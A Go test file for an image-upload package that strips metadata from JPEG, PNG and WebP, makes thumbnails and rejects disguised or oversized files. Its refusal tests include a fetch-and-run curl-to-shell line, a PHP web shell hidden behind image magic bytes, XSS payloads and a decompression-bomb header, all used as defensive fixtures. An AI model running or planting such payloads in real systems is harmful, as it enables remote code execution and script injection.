package photo

import (
	"bytes"
	"encoding/binary"
	"errors"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"runtime"
	"strings"
	"testing"
)

func decode(t *testing.T, data []byte, wantFormat string) image.Image {
	t.Helper()
	img, format, err := image.Decode(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("output does not decode: %v", err)
	}
	if format != wantFormat {
		t.Fatalf("output is %s, want %s", format, wantFormat)
	}
	return img
}

// near reports whether c is within tol of want in each channel, as a
// lossy JPEG leaves it.
func near(c color.Color, want color.NRGBA, tol int) bool {
	n := color.NRGBAModel.Convert(c).(color.NRGBA)
	d := func(a, b uint8) bool { return int(a)-int(b) <= tol && int(b)-int(a) <= tol }
	return d(n.R, want.R) && d(n.G, want.G) && d(n.B, want.B) && d(n.A, want.A)
}

var (
	red         = color.NRGBA{255, 0, 0, 255}
	blue        = color.NRGBA{0, 0, 255, 255}
	green       = color.NRGBA{0, 255, 0, 255}
	white       = color.NRGBA{255, 255, 255, 255}
	transparent = color.NRGBA{}
)

func TestProcessJPEGDropsMetadata(t *testing.T) {
	plain := encodeJPEG(t, photoLike(640, 480))
	// Another picture after the end-of-image marker, as a multi-picture
	// file (APP2 "MPF") carries its depth map or preview, with EXIF of its
	// own.
	second := withSegments(encodeJPEG(t, photoLike(64, 48)), exifAPP1(0))
	in := withSegments(plain,
		jfifAPP0(true), exifAPP1(1), xmpAPP1(), segment(0xe2, []byte("MPF\x00II*\x00")),
		segment(0xed, []byte("Photoshop 3.0\x008BIM\x04\x04"+commentText)), segment(0xfe, []byte(commentText)))
	in = append(in, second...)
	in = append(in, "<script>alert(1)</script>"...)
	leaks := [][]byte{
		[]byte("Exif"), []byte("GPS"), []byte("ns.adobe.com"), []byte(commentText), []byte("<script>"), []byte("MPF"),
		rationalBytes(latitude), rationalBytes(longitude),
	}
	for _, l := range leaks {
		if !bytes.Contains(in, l) {
			t.Fatalf("the input lacks %q: the test proves nothing", l)
		}
	}

	p, err := Process(in)
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "image/jpeg" || p.Width != 640 || p.Height != 480 || p.ThumbType != "image/jpeg" {
		t.Errorf("got %s %d×%d, thumbnail %s, want image/jpeg 640×480, image/jpeg", p.ContentType, p.Width, p.Height, p.ThumbType)
	}
	for _, out := range [][]byte{p.Data, p.Thumb} {
		for _, l := range leaks {
			if bytes.Contains(out, l) {
				t.Errorf("output still holds %q", l)
			}
		}
		for _, m := range jpegMarkers(t, out) {
			if m >= 0xe1 && m <= 0xef || m == 0xfe {
				t.Errorf("output has a segment with marker %#x (APPn or comment)", m)
			}
		}
	}
	// The JFIF header stays, without its embedded thumbnail.
	if !bytes.HasPrefix(p.Data, append([]byte{0xff, 0xd8}, jfifAPP0(false)...)) {
		t.Errorf("output starts % x, want the JFIF header without its thumbnail", p.Data[:min(len(p.Data), 24)])
	}
	// The image data is the sender's byte for byte, and nothing follows it.
	if sos := bytes.Index(plain, []byte{0xff, 0xda}); !bytes.HasSuffix(p.Data, plain[sos:]) {
		t.Error("the scan and what follows it are not the sender's bytes")
	}
	samePixels(t, decode(t, plain, "jpeg"), decode(t, p.Data, "jpeg"))
	if b := decode(t, p.Thumb, "jpeg").Bounds(); b.Dx() != 320 || b.Dy() != 240 {
		t.Errorf("thumbnail is %v, want 320×240", b)
	}
}

// samePixels fails unless a and b hold the same pixels.
func samePixels(t *testing.T, a, b image.Image) {
	t.Helper()
	if a.Bounds() != b.Bounds() {
		t.Fatalf("bounds %v and %v", a.Bounds(), b.Bounds())
	}
	r := a.Bounds()
	for y := r.Min.Y; y < r.Max.Y; y++ {
		for x := r.Min.X; x < r.Max.X; x++ {
			if ca, cb := color.NRGBAModel.Convert(a.At(x, y)), color.NRGBAModel.Convert(b.At(x, y)); ca != cb {
				t.Fatalf("pixel (%d,%d) is %v, was %v", x, y, cb, ca)
			}
		}
	}
}

// The colour profile and the Adobe segment say how the pixels' colours are
// meant; they stay.
func TestProcessJPEGKeepsColour(t *testing.T) {
	icc := segment(0xe2, []byte("ICC_PROFILE\x00\x01\x01"+"a Display P3 profile"))
	adobe := segment(0xee, []byte("Adobe\x00\x64\x00\x00\x00\x00\x01"))
	plain := encodeJPEG(t, photoLike(200, 100))
	p, err := Process(withSegments(plain, exifAPP1(0), icc, adobe))
	if err != nil {
		t.Fatal(err)
	}
	if want := withSegments(plain, icc, adobe); !bytes.Equal(p.Data, want) {
		t.Errorf("output is not the photo with its ICC profile and Adobe segment and nothing else")
	}
	if &p.Thumb[0] != &p.Data[0] || p.ThumbType != "image/jpeg" {
		t.Error("a photo within the thumbnail's box is not its own thumbnail")
	}
}

func TestProcessPNGDropsMetadataKeepsPixels(t *testing.T) {
	src := image.NewNRGBA(image.Rect(0, 0, 40, 30))
	for y := range 30 {
		for x := range 40 {
			src.SetNRGBA(x, y, color.NRGBA{uint8(x * 6), uint8(y * 8), 77, uint8(255 - x*5)})
		}
	}
	in := withChunks(encodePNG(t, src),
		pngChunk("tEXt", []byte("Comment\x00"+commentText)),
		pngChunk("iTXt", []byte("XML:com.adobe.xmp\x00\x00\x00\x00\x00"+string(xmpAPP1()[4:]))),
		pngChunk("eXIf", exifAPP1(0)[10:]), // the TIFF block, without APP1's "Exif\0\0"
		pngChunk("tIME", []byte{0x07, 0xea, 12, 6, 8, 30, 0}),
		pngChunk("sRGB", []byte{0}), // how the colours are meant: kept
	)
	in = append(in, "trailing bytes after IEND"...)
	if _, err := png.Decode(bytes.NewReader(in)); err != nil {
		t.Fatalf("the input PNG is not valid: %v", err)
	}

	p, err := Process(in)
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "image/png" || p.Width != 40 || p.Height != 30 {
		t.Errorf("got %s %d×%d, want image/png 40×30", p.ContentType, p.Width, p.Height)
	}
	if got := strings.Join(pngChunkTypes(t, p.Data), " "); got != "IHDR sRGB IDAT IEND" {
		t.Errorf("output's chunks are %s, want IHDR sRGB IDAT IEND", got)
	}
	for _, l := range []string{"GPS", commentText, "adobe", "trailing"} {
		if bytes.Contains(p.Data, []byte(l)) {
			t.Errorf("output still holds %q", l)
		}
	}
	out := decode(t, p.Data, "png")
	for y := range 30 {
		for x := range 40 {
			if got, want := color.NRGBAModel.Convert(out.At(x, y)), src.NRGBAAt(x, y); got != want {
				t.Fatalf("pixel (%d,%d) = %v, want %v: PNG must stay lossless", x, y, got, want)
			}
		}
	}
}

// The orientation is all that is left of the EXIF block: the pixels stay
// as the camera wrote them, a browser turns them, and the thumbnail is
// turned here.
func TestProcessKeepsOnlyOrientation(t *testing.T) {
	// Left half red, right half blue; EXIF orientation 6 says "turn 90°
	// clockwise to view", which brings red to the top.
	plain := encodeJPEG(t, halves(640, 320, red, blue))
	p, err := Process(withSegments(plain, exifAPP1(6), xmpAPP1()))
	if err != nil {
		t.Fatal(err)
	}
	if p.Width != 320 || p.Height != 640 {
		t.Fatalf("got %d×%d, want 320×640 (as it shows upright)", p.Width, p.Height)
	}
	for _, l := range [][]byte{[]byte("GPS"), []byte("adobe"), rationalBytes(latitude), rationalBytes(longitude)} {
		if bytes.Contains(p.Data, l) {
			t.Errorf("output still holds %q", l)
		}
	}
	if want := withSegments(plain, orientationAPP1(6)); !bytes.Equal(p.Data, want) {
		t.Fatal("output is not the photo with an EXIF block of its orientation alone")
	}
	app1 := orientationAPP1(6)
	if o := exifOrientation(app1[10:]); o != 6 {
		t.Errorf("the EXIF block written reads as orientation %d", o)
	}
	if n := binary.BigEndian.Uint16(app1[18:]); n != 1 {
		t.Errorf("the EXIF block written has %d entries", n)
	}
	samePixels(t, decode(t, plain, "jpeg"), decode(t, p.Data, "jpeg"))

	thumb := decode(t, p.Thumb, "jpeg")
	if b := thumb.Bounds(); b.Dx() != 160 || b.Dy() != 320 {
		t.Fatalf("thumbnail is %v, want 160×320, upright", b)
	}
	if c := thumb.At(80, 40); !near(c, red, 40) {
		t.Errorf("thumbnail's top is %v, want red", c)
	}
	if c := thumb.At(80, 280); !near(c, blue, 40) {
		t.Errorf("thumbnail's bottom is %v, want blue", c)
	}
}

func TestExifOrientation(t *testing.T) {
	le := []byte("II*\x00\x08\x00\x00\x00" + "\x02\x00" +
		"\x0f\x01\x02\x00\x06\x00\x00\x00\x26\x00\x00\x00" + // Make, elsewhere
		"\x12\x01\x03\x00\x01\x00\x00\x00\x08\x00\x00\x00" + // orientation 8
		"\x00\x00\x00\x00")
	for _, tt := range []struct {
		name string
		tiff []byte
		want int
	}{
		{"big-endian", exifAPP1(3)[10:], 3},
		{"little-endian", le, 8},
		{"none", exifAPP1(0)[10:], 1},
		{"out of range", exifAPP1(9)[10:], 1},
		{"cut short", exifAPP1(6)[10:20], 1},
		{"IFD beyond the end", []byte("MM\x00*\x7f\xff\xff\xff"), 1},
		{"not TIFF", []byte("GIF89a\x00\x00\x00"), 1},
	} {
		if got := exifOrientation(tt.tiff); got != tt.want {
			t.Errorf("%s: orientation %d, want %d", tt.name, got, tt.want)
		}
	}
}

func TestProcessWebP(t *testing.T) {
	plain := losslessWebP(64, 32)
	vp8l := plain[12:]
	exif := append([]byte("EXIF"), binary.LittleEndian.AppendUint32(nil, uint32(len(exifAPP1(0))-10))...)
	exif = append(exif, exifAPP1(0)[10:]...)
	if len(exif)%2 == 1 {
		exif = append(exif, 0)
	}
	xmp := append([]byte("XMP "), binary.LittleEndian.AppendUint32(nil, uint32(len(xmpAPP1())-33))...)
	xmp = append(xmp, xmpAPP1()[33:]...)
	if len(xmp)%2 == 1 {
		xmp = append(xmp, 0)
	}
	// VP8X: alpha, EXIF and XMP; a 64×32 canvas.
	vp8x := append([]byte("VP8X\x0a\x00\x00\x00"), 0x10|0x08|0x04, 0, 0, 0, 63, 0, 0, 31, 0, 0)
	in := riffOf(vp8x, vp8l, exif, xmp)
	in = append(in, "trailing"...)
	for _, l := range []string{"GPS", "adobe", "EXIF", "XMP "} {
		if !bytes.Contains(in, []byte(l)) {
			t.Fatalf("the input lacks %q: the test proves nothing", l)
		}
	}

	p, err := Process(in)
	if err != nil {
		t.Fatal(err)
	}
	if p.ContentType != "image/webp" || p.Width != 64 || p.Height != 32 {
		t.Fatalf("got %s %d×%d, want image/webp 64×32", p.ContentType, p.Width, p.Height)
	}
	vp8x[8] = 0x10 // alpha alone
	if want := riffOf(vp8x, vp8l); !bytes.Equal(p.Data, want) {
		t.Errorf("output is not the image with its EXIF and XMP chunks and their flags gone:\n% x\nwant\n% x",
			p.Data[:min(len(p.Data), 40)], want[:40])
	}
	samePixels(t, decode(t, plain, "webp"), decode(t, p.Data, "webp"))
	if &p.Thumb[0] != &p.Data[0] || p.ThumbType != "image/webp" {
		t.Error("a photo within the thumbnail's box is not its own thumbnail")
	}

	// A larger one has a JPEG thumbnail, where the transparent half must
	// come out white, not the black its pixels hold.
	p, err = Process(losslessWebP(640, 32))
	if err != nil {
		t.Fatal(err)
	}
	thumb := decode(t, p.Thumb, "jpeg")
	if b := thumb.Bounds(); b.Dx() != 320 || b.Dy() != 16 || p.ThumbType != "image/jpeg" {
		t.Fatalf("thumbnail %s %v, want image/jpeg 320×16", p.ThumbType, b)
	}
	if c := thumb.At(40, 8); !near(c, green, 40) {
		t.Errorf("left is %v, want green", c)
	}
	if c := thumb.At(280, 8); !near(c, white, 40) {
		t.Errorf("right is %v, want white", c)
	}
}

// riffOf wraps chunks, each with its header and padding, in the WebP
// container.
func riffOf(chunks ...[]byte) []byte {
	out := []byte("RIFF\x00\x00\x00\x00WEBP")
	for _, c := range chunks {
		out = append(out, c...)
	}
	binary.LittleEndian.PutUint32(out[4:], uint32(len(out)-8))
	return out
}

func TestThumbnail(t *testing.T) {
	tests := []struct {
		name         string
		in           []byte
		w, h         int // of the photo
		thumbW, thmH int
	}{
		{"landscape", encodeJPEG(t, photoLike(2000, 1000)), 2000, 1000, 320, 160},
		{"portrait", encodePNG(t, photoLike(600, 900)), 600, 900, 213, 320},
		{"small, not enlarged", encodeJPEG(t, photoLike(100, 50)), 100, 50, 100, 50},
		{"exactly the box", encodeJPEG(t, photoLike(320, 320)), 320, 320, 320, 320},
		{"a thin strip keeps a pixel", encodePNG(t, photoLike(4, 3000)), 4, 3000, 1, 320},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Process(tt.in)
			if err != nil {
				t.Fatal(err)
			}
			if p.Width != tt.w || p.Height != tt.h {
				t.Errorf("photo is %d×%d, want %d×%d", p.Width, p.Height, tt.w, tt.h)
			}
			b := decode(t, p.Thumb, "jpeg").Bounds()
			if b.Dx() != tt.thumbW || b.Dy() != tt.thmH {
				t.Errorf("thumbnail is %d×%d, want %d×%d", b.Dx(), b.Dy(), tt.thumbW, tt.thmH)
			}
		})
	}
}

func TestThumbnailOfTransparentPNG(t *testing.T) {
	p, err := Process(encodePNG(t, halves(640, 320, blue, transparent)))
	if err != nil {
		t.Fatal(err)
	}
	thumb := decode(t, p.Thumb, "jpeg")
	if c := thumb.At(40, 80); !near(c, blue, 40) {
		t.Errorf("left is %v, want blue", c)
	}
	if c := thumb.At(280, 80); !near(c, white, 40) {
		t.Errorf("right is %v, want white", c)
	}
	// The photo itself stays a PNG with its transparency.
	if c := decode(t, p.Data, "png").At(600, 10); color.NRGBAModel.Convert(c) != transparent {
		t.Errorf("transparent pixel became %v", c)
	}
}

func TestProcessRefuses(t *testing.T) {
	var gifData bytes.Buffer
	if err := gif.Encode(&gifData, photoLike(16, 16), nil); err != nil {
		t.Fatal(err)
	}
	small := encodeJPEG(t, photoLike(256, 256))

	// A JPEG whose frame header says 20000×20000.
	bigJPEG := append([]byte{}, small...)
	sof := bytes.Index(bigJPEG, []byte{0xff, 0xc0})
	copy(bigJPEG[sof+5:], []byte{0x4e, 0x20, 0x4e, 0x20})

	// A JPEG of many scans: its own, then 120 more scan headers.
	manyScans := append([]byte{}, small[:len(small)-2]...)
	for range 120 {
		manyScans = append(manyScans, segment(0xda, []byte{1, 1, 0, 0, 63, 0})...)
	}
	manyScans = append(manyScans, 0xff, 0xd9)

	oversize := append(append([]byte{}, small...), make([]byte, MaxBytes+1-len(small))...)

	var lossless bitWriter // a lossless WebP header of 16384×16384
	lossless.write(0x2f, 8)
	lossless.write(16383, 14)
	lossless.write(16383, 14)
	lossless.write(0, 4)

	tests := []struct {
		name string
		in   []byte
		want error
	}{
		{"empty", nil, ErrType},
		{"script renamed .jpg", []byte("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"), ErrType},
		{"HTML", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), ErrType},
		{"SVG", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), ErrType},
		{"GIF", gifData.Bytes(), ErrType},
		{"PHP behind a GIF header", []byte("GIF89a<?php system($_GET['c']); ?>"), ErrType},
		{"PDF", []byte("%PDF-1.7\n1 0 obj\n"), ErrType},
		{"BMP", []byte("BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00"), ErrType},
		{"HEIC", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), ErrType},
		{"JPEG header cut short", small[:2], ErrType},
		{"PNG header cut short", []byte("\x89PNG\r\n"), ErrType},
		{"animated WebP", animatedWebPHeader(), ErrType},
		{"JPEG magic, then a script", []byte("\xff\xd8\xff<?php system($_GET['c']); ?>"), ErrCorrupt},
		{"JPEG cut before its frame", small[:20], ErrCorrupt},
		{"JPEG cut in half", small[:len(small)/2], ErrCorrupt},
		{"PNG magic, then nothing", []byte("\x89PNG\r\n\x1a\n"), ErrCorrupt},
		{"PNG cut in half", encodePNG(t, photoLike(64, 64))[:2000], ErrCorrupt},
		{"PNG declaring 0×0", pngHeader(t, 0, 0), ErrCorrupt},
		{"WebP cut in half", losslessWebP(64, 32)[:200], ErrCorrupt},
		{"over MaxBytes", oversize, ErrTooLarge},
		{"PNG declaring 20000×20000", pngHeader(t, 20000, 20000), ErrTooLarge},
		{"JPEG declaring 20000×20000", bigJPEG, ErrTooLarge},
		{"WebP declaring 16384×16384", riff("VP8L", lossless.bytes()), ErrTooLarge},
		{"JPEG of too many scans", manyScans, ErrTooLarge},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Process(tt.in)
			if !errors.Is(err, tt.want) {
				t.Fatalf("Process = %v, want %v", err, tt.want)
			}
			if p.Data != nil || p.Thumb != nil {
				t.Error("a refusal returned data")
			}
			var pe *Error
			if !errors.As(err, &pe) {
				t.Fatalf("%T is not a *photo.Error", err)
			}
			if pe.Field != "photos" || !strings.HasPrefix(err.Error(), "photos: ") {
				t.Errorf("error names %q (%q), want photos", pe.Field, err)
			}
			// Vietnamese first, English after in parentheses.
			open := strings.Index(pe.Message, " (")
			if open < 1 || !strings.HasSuffix(pe.Message, ").") {
				t.Fatalf("message %q is not \"Vietnamese (English).\"", pe.Message)
			}
			if vi := pe.Message[:open]; !strings.ContainsAny(vi, "ảáạóớờệốặộ") {
				t.Errorf("message %q does not start in Vietnamese", pe.Message)
			}
		})
	}
}

func TestTooLargeMessage(t *testing.T) {
	_, err := Process(make([]byte, MaxBytes+1))
	var pe *Error
	if !errors.As(err, &pe) {
		t.Fatalf("Process = %v, want a *photo.Error", err)
	}
	for _, s := range []string{"Ảnh quá lớn: 5,1 MB, tối đa 5 MB", "at most 5 MB"} {
		if !strings.Contains(pe.Message, s) {
			t.Errorf("message %q lacks %q", pe.Message, s)
		}
	}
	_, err = Process(pngHeader(t, 20000, 20000))
	if !errors.As(err, &pe) || !strings.Contains(pe.Message, "20000×20000") {
		t.Errorf("message %q does not give the declared size", err)
	}
}

func TestMaxBytesIsAccepted(t *testing.T) {
	small := encodeJPEG(t, photoLike(64, 64))
	in := append(append([]byte{}, small...), make([]byte, MaxBytes-len(small))...)
	p, err := Process(in)
	if err != nil {
		t.Fatalf("a photo of exactly MaxBytes: %v", err)
	}
	if len(p.Data) > len(small)*2 {
		t.Errorf("output is %d bytes: the padding after the image survived", len(p.Data))
	}
}

// The pixel limit is checked before decoding: a PNG that declares
// 20000×20000 grey pixels would make the decoder allocate 400 MB before it
// found the data missing.
func TestBombIsNotDecoded(t *testing.T) {
	bomb := pngHeader(t, 20000, 20000)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	if _, err := Process(bomb); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("Process = %v, want ErrTooLarge", err)
	}
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > 8<<20 {
		t.Errorf("refusing the bomb allocated %d bytes", n)
	}
}

// BenchmarkProcess times Process against the way it worked before
// (reencode: decode, turn, encode again, CatmullRom thumbnail), on the
// load test's photo (320×240), a 2-megapixel phone photo, as it comes
// upright and as it comes from a phone held upright (EXIF orientation 6),
// and a 12-megapixel one. Both run in the same benchmark so that a busy
// machine weighs on both alike:
//
//	go test -run '^$' -bench Process -benchmem -count 3 ./feedback/photo/
func BenchmarkProcess(b *testing.B) {
	small := withSegments(encodeJPEG(b, photoLike(320, 240)), exifAPP1(0))
	upright := withSegments(encodeJPEG(b, photoLike(1732, 1155)), exifAPP1(0))
	turned := withSegments(encodeJPEG(b, photoLike(1732, 1155)), exifAPP1(6))
	large := withSegments(encodeJPEG(b, photoLike(4000, 3000)), exifAPP1(0))
	for _, bm := range []struct {
		name string
		data []byte
	}{
		{"320x240", small},
		{"2MP", upright},
		{"2MP-orientation-6", turned},
		{"12MP", large},
	} {
		for _, f := range []struct {
			name    string
			process func([]byte) (Photo, error)
		}{{"reencode", reencode}, {"strip", Process}} {
			b.Run(bm.name+"/"+f.name, func(b *testing.B) {
				b.SetBytes(int64(len(bm.data)))
				b.ReportAllocs()
				for b.Loop() {
					if _, err := f.process(bm.data); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}
